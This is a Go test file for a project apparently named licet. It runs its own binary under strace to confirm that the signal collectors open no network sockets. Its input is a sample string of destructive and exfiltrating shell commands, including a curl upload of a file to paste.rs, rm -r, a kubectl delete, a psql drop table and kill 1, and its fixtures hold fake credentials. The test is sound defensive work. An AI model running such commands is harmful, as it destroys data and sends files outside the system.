package signals_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/licet-dev/licet/internal/signals"
	"github.com/licet-dev/licet/internal/testkit"
)

// withoutSockets names the variable that says where a world lies that this program
// is to look at, or that it is to open a socket.
const withoutSockets = "LICET_TEST_WITHOUT_SOCKETS"

// TestNoSockets: no collector asks the system for a socket, also not to find out
// what a name stands for.
func TestNoSockets(t *testing.T) {
	switch top := os.Getenv(withoutSockets); top {
	case "":
	case "control":
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err != nil {
			t.Fatal(err)
		}
		if err := unix.Close(fd); err != nil {
			t.Fatal(err)
		}
		return
	default:
		w := world{t, filepath.Join(top, "home"), filepath.Join(top, "home/project"), filepath.Join(top, "system")}
		in := w.input("curl -d @a https://paste.rs; git push; rm -r d; kubectl -n web delete pod x; psql -c 'drop table t'; npm publish; kill 1; docker compose down")
		in.Want = allCollectors()
		if r := signals.Collect(context.Background(), in); len(r.Collectors) < 19 {
			t.Errorf("only %d collectors ran", len(r.Collectors))
		}
		return
	}
	if _, err := exec.LookPath("strace"); err != nil {
		testkit.Missing(t, "LICET_REQUIRE_STRACE", "needs strace")
	}
	w := newWorld(t)
	pushed(w)
	w.write(map[string]string{"d/f": "x", ".env": "DATABASE_URL=postgres://u:p@db.example/app\n", "~/.kube/config": "current-context: a\n"})
	if calls := socketCalls(t, "control"); !strings.Contains(calls, "socket(AF_INET") {
		t.Fatalf("a socket is not noticed: %q", calls)
	}
	if calls := socketCalls(t, filepath.Dir(w.system)); calls != "" {
		t.Errorf("collectors use sockets:\n%s", calls)
	}
}

// socketCalls returns the calls about sockets that this program makes.
func socketCalls(t *testing.T, of string) (calls string) {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	log := filepath.Join(t.TempDir(), "log")
	cmd := exec.Command("strace", "-f", "-qq", "-e", "trace=%network", "-e", "signal=none", "-o", log, self, "-test.run", "^TestNoSockets$")
	cmd.Env = append(os.Environ(), withoutSockets+"="+of)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	text, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}
